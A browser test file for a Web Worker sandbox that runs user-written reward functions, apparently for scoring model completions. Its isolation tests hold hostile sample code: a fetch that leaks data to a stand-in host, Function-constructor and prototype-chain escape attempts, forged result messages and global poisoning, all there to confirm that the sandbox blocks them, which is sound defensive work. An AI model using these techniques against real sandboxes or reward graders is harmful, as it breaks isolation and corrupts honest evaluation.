// The reward sandbox in a real browser. This file uses no GPU: it is a *.gpu.test.ts only so that it runs
// in the browser project (headless Chromium) — Web Workers need a real browser, Node has none.
import { afterAll, describe, expect, it } from 'vitest';
import type { RewardInput, RewardOutcome } from './protocol';
import { RewardSandbox } from './rewardSandbox';

const samples: RewardInput[] = ['19', '18', 'x', '12'].map((completion) => ({
  prompt: '12+7=',
  completion,
  answer: '19',
  task: 'addition',
  arm: 'd2',
}));

const sandbox = new RewardSandbox();
afterAll(() => sandbox.dispose());

const TIMEOUT_MS = 400;
const run = (code: string, batch = samples, timeoutMs = 2_000) => sandbox.evaluate(code, batch, { timeoutMs });

function errorOf(outcome: RewardOutcome) {
  if (outcome.ok) throw new Error(`expected a failure, got rewards ${JSON.stringify(outcome.rewards)}`);
  return outcome.error;
}

/** Whatever the user code returned as a number-encoded probe result (1 = the check passed). */
async function probe(expression: string): Promise<number> {
  const outcome = await run(`function reward() { return (${expression}) ? 1 : 0; }`, samples.slice(0, 1));
  if (!outcome.ok) throw new Error(outcome.error.message);
  return outcome.rewards[0];
}

describe('RewardSandbox', () => {
  it('runs a good reward over the batch, with components', async () => {
    const outcome = await run(`
      function reward({ prompt, completion, answer, task, arm }) {
        const right = completion === answer ? 1 : 0;
        return { reward: right + 0.1 * /^[0-9]+$/.test(completion), components: { right, len: completion.length } };
      }`);
    expect(outcome).toEqual({
      ok: true,
      rewards: [1.1, 0.1, 0, 0.1],
      components: [{ right: 1, len: 2 }, { right: 0, len: 2 }, { right: 0, len: 1 }, { right: 0, len: 2 }],
    });
    const plain = await run('function reward({ completion, answer, task, arm, prompt }) { return completion === answer && task === "addition" && arm === "d2" && prompt === "12+7=" ? 1 : 0; }');
    expect(plain).toEqual({ ok: true, rewards: [1, 0, 0, 0], components: [{}, {}, {}, {}] });
  });

  it('stops an endless loop at the deadline, and the next call works', async () => {
    const started = sandbox.workersStarted;
    const t0 = performance.now();
    const outcome = await run('function reward() { while (true) {} }', samples, TIMEOUT_MS);
    const elapsed = performance.now() - t0;
    expect(errorOf(outcome)).toMatchObject({ kind: 'timeout', message: expect.stringMatching(/did not finish within 400 ms on a batch of 4 samples/) });
    expect(elapsed).toBeGreaterThanOrEqual(TIMEOUT_MS - 5);
    expect(elapsed).toBeLessThan(TIMEOUT_MS + 1_500);
    // Same code again: a fresh worker, the same verdict; then good code runs normally.
    expect(errorOf(await run('function reward() { while (true) {} }', samples, TIMEOUT_MS)).kind).toBe('timeout');
    const next = await run('function reward({ completion }) { return completion.length; }');
    expect(next).toMatchObject({ ok: true, rewards: [2, 2, 1, 2] });
    expect(sandbox.workersStarted).toBe(started + 3);
  });

  it('times out an endless loop in top-level code too', async () => {
    expect(errorOf(await run('for (;;) {}\nfunction reward() { return 1; }', samples, TIMEOUT_MS)).kind).toBe('timeout');
  });

  it('reports infinite recursion as a throw naming the sample', async () => {
    const error = errorOf(await run('function reward(s) { return reward(s) + 1; }'));
    expect(error.kind).toBe('throw');
    expect(error.message).toMatch(/^reward\(\) threw on sample 0 \(completion "19"\): RangeError: Maximum call stack size exceeded/);
    expect(error.sampleIndex).toBe(0);
    expect(error.sample).toEqual(samples[0]);
  });

  it('reports non-Error throws', async () => {
    const five = errorOf(await run('function reward({ completion }) { if (completion === "x") throw 5; return 1; }'));
    expect(five).toMatchObject({ kind: 'throw', message: 'reward() threw on sample 2 (completion "x"): 5', sampleIndex: 2 });
    const obj = errorOf(await run('function reward() { throw {}; }'));
    expect(obj.message).toBe('reward() threw on sample 0 (completion "19"): {}');
    const loading = errorOf(await run('throw new Error("bad setup"); function reward() { return 1; }'));
    expect(loading).toMatchObject({ kind: 'throw', message: 'reward code threw while loading: Error: bad setup' });
  });

  it('rejects NaN, strings and throwing getters with a clear message', async () => {
    const nan = errorOf(await run('function reward({ completion }) { return completion === "12" ? NaN : 0; }'));
    expect(nan).toMatchObject({ kind: 'invalid', message: 'reward() returned NaN for sample 3 (completion "12")', sampleIndex: 3 });
    const str = errorOf(await run('function reward() { return "1"; }'));
    expect(str.message).toBe('reward() returned a string ("1") for sample 0 (completion "19")');
    const inf = errorOf(await run('function reward() { return { reward: 1 / 0 }; }'));
    expect(inf.message).toBe('reward() returned {reward: Infinity} for sample 0 (completion "19")');
    const getter = errorOf(await run('function reward() { return { get reward() { throw new Error("gotcha"); } }; }'));
    expect(getter).toMatchObject({ kind: 'invalid', message: expect.stringMatching(/\.reward could not be read \(Error: gotcha\)/) });
    const asyncReward = errorOf(await run('async function reward() { return 1; }'));
    expect(asyncReward.message).toMatch(/Promise — reward\(\) must be synchronous/);
  });

  it('explains compile errors', async () => {
    const syntax = errorOf(await run('function reward( { return 1; }'));
    expect(syntax.kind).toBe('compile');
    expect(syntax.message).toMatch(/^reward code does not compile: SyntaxError: /);
    expect(errorOf(await run('}); (function () {')).kind).toBe('compile');
    expect(errorOf(await run('const x = 1;')).message).toMatch(/must define a function named reward/);
    expect(errorOf(await run('function reward() { return import("data:text/javascript,"); }')).message).toMatch(/`import`/);
  });

  it('has no network, storage, code-from-strings or escape to the global object', async () => {
    for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB', 'caches', 'BroadcastChannel', 'Worker', 'navigator', 'postMessage', 'self', 'globalThis']) {
      expect(await probe(`typeof ${name} === 'undefined'`), name).toBe(1);
    }
    // Roundabout routes to the real global object find the APIs gone.
    expect(await probe('(function () { return this; })() === undefined')).toBe(1);
    expect(await probe('(() => { try { return (function(){}).constructor("return this")(); } catch (e) { return undefined; } })() === undefined')).toBe(1);
    expect(await probe('(() => { try { return (async function(){}).constructor("return 1"); } catch (e) { return undefined; } })() === undefined')).toBe(1);
    expect(await probe('(() => { try { return [].map.constructor("return 1"); } catch (e) { return undefined; } })() === undefined')).toBe(1);
    // Blocked calls fail inside user code, which sees an ordinary error.
    const fetchCall = errorOf(await run('function reward() { fetch("https://example.com/?leak"); return 1; }'));
    expect(fetchCall).toMatchObject({ kind: 'throw', message: expect.stringMatching(/ReferenceError|TypeError/) });
    const importCall = errorOf(await run('function reward() { importScripts("https://example.com/x.js"); return 1; }'));
    expect(importCall.kind).toBe('throw');
    const idb = errorOf(await run('function reward() { indexedDB.open("x"); return 1; }'));
    expect(idb.kind).toBe('throw');
  });

  it('does not let user code post forged results to the host', async () => {
    const forged = `
      function reward() {
        const fake = { type: 'result', id: 0, rewards: new Float64Array([999, 999, 999, 999]), components: [{}, {}, {}, {}] };
        for (let id = 0; id < 100; id++) {
          fake.id = id;
          try { postMessage(fake); } catch {}
          try { self.postMessage(fake); } catch {}
          try { globalThis.postMessage(fake); } catch {}
          try { Object.getPrototypeOf(Object.getPrototypeOf({})).constructor.constructor('return postMessage')()(fake); } catch {}
        }
        return 0.5;
      }`;
    const outcome = await run(forged);
    expect(outcome).toEqual({ ok: true, rewards: [0.5, 0.5, 0.5, 0.5], components: [{}, {}, {}, {}] });
    // And nothing stray arrives for the next call either.
    expect(await run('function reward() { return 2; }')).toMatchObject({ ok: true, rewards: [2, 2, 2, 2] });
  });

  it('does not let user code forge a reply with a synthetic MessageEvent (issue 20, class 7)', async () => {
    // Dispatched on the worker's global, a fake request would make the sandbox evaluate other code and
    // post its rewards as the reply to the batch in flight (ids count from 1 per RewardSandbox).
    const forger = new RewardSandbox();
    try {
      const code = `
        function reward({ prompt, completion, answer, task, arm }) {
          const fake = 'function reward() { return 999; }';
          const samples = [0, 1, 2, 3].map(() => ({ prompt, completion, answer, task, arm }));
          for (let id = 0; id < 20; id++) {
            try { dispatchEvent(new MessageEvent('message', { data: { type: 'evaluate', id, code: fake, samples } })); } catch {}
          }
          return 0.5;
        }`;
      expect(await forger.evaluate(code, samples)).toEqual({ ok: true, rewards: [0.5, 0.5, 0.5, 0.5], components: [{}, {}, {}, {}] });
      expect(await probe("typeof MessageChannel === 'undefined'")).toBe(1);
    } finally {
      forger.dispose();
    }
  });

  it('has no WebGL, WebGPU or OffscreenCanvas (issue 20, class 9)', async () => {
    for (const name of ['OffscreenCanvas', 'WebGLRenderingContext', 'WebGL2RenderingContext', 'GPU', 'GPUAdapter', 'WebAssembly', 'createImageBitmap']) {
      expect(await probe(`typeof ${name} === 'undefined'`), name).toBe(1);
    }
    const gl = errorOf(await run('function reward() { return new OffscreenCanvas(4, 4).getContext("webgl2") ? 1 : 0; }'));
    expect(gl.kind).toBe('throw');
  });

  it('gives every batch a fresh realm, so what reward code keeps between calls does not grow (issue 20, class 1)', async () => {
    const keeper = 'const kept = []; function reward() { kept.push(kept.length); return kept.length; }';
    expect(await run(keeper)).toMatchObject({ ok: true, rewards: [1, 2, 3, 4] });
    // A reused worker answered 5..8 here: the array had survived the batch.
    expect(await run(keeper)).toMatchObject({ ok: true, rewards: [1, 2, 3, 4] });
  });

  it('survives reward code that keeps 160 MiB per batch for 24 batches (3.75 GiB in all)', async () => {
    // A worker reused across batches held all of it: the renderer ran out of memory at about 3.3 GiB and
    // the page (here: the test runner) died. Fresh workers free each batch's 160 MiB when it ends.
    const hog = 'const kept = []; function reward() { for (let i = 0; i < 40; i++) kept.push(new Array(131072).fill(kept.length + 0.5)); return kept.length; }';
    let last: RewardOutcome | null = null;
    for (let batch = 0; batch < 24; batch++) {
      last = await run(hog, samples, 20_000);
      expect(last.ok, `batch ${batch}`).toBe(true);
    }
    // Each batch started from nothing: the last one kept its own 160 MiB only.
    expect(last).toMatchObject({ ok: true, rewards: [40, 80, 120, 160] });
  });

  it('keeps global tampering inside the worker, and away from the next code', async () => {
    const tamper = `
      Math.random = () => 42;
      Array.prototype.map = function () { throw new Error('poisoned'); };
      Number.isFinite = () => true;
      Object.keys = () => [];
      function reward() { return { reward: 1, components: { a: 1 } }; }`;
    // The worker's own checks use built-ins captured before the code ran, so results are still right.
    expect(await run(tamper)).toEqual({ ok: true, rewards: [1, 1, 1, 1], components: [{ a: 1 }, { a: 1 }, { a: 1 }, { a: 1 }] });
    expect(Math.random()).not.toBe(42);
    expect([1, 2, 3].map((x) => x * 2)).toEqual([2, 4, 6]);
    // Different code gets a fresh worker with pristine built-ins.
    expect(await probe('[1, 2].map((x) => x + 1)[1] === 3 && Math.random() !== 42')).toBe(1);
  });

  it('contains a huge allocation, and the host stays responsive', async () => {
    const t0 = performance.now();
    let ticks = 0;
    const ticker = setInterval(() => ticks++, 20);
    const outcome = await run('function reward() { return new Array(1e9).fill(0).length; }', samples.slice(0, 1), 1_000);
    clearInterval(ticker);
    expect(['timeout', 'throw', 'crash']).toContain(errorOf(outcome).kind);
    expect(performance.now() - t0).toBeLessThan(4_000);
    expect(ticks).toBeGreaterThan(5);
    const typed = errorOf(await run('function reward() { return new Float64Array(2 ** 40).length; }', samples.slice(0, 1)));
    expect(typed.kind).toBe('throw');
    expect(await run('function reward() { return 3; }', samples.slice(0, 1))).toEqual({ ok: true, rewards: [3], components: [{}] });
  });

  it('answers an empty batch (a compile check) and queues concurrent calls', async () => {
    expect(await run('function reward() { return 1; }', [])).toEqual({ ok: true, rewards: [], components: [] });
    expect(errorOf(await run('function reward( {', [])).kind).toBe('compile');
    const [a, b, c] = await Promise.all([
      run('function reward() { return 1; }'),
      run('function reward() { while (true) {} }', samples, 300),
      run('function reward() { return 2; }'),
    ]);
    expect(a).toMatchObject({ ok: true, rewards: [1, 1, 1, 1] });
    expect(errorOf(b).kind).toBe('timeout');
    expect(c).toMatchObject({ ok: true, rewards: [2, 2, 2, 2] });
  });
});
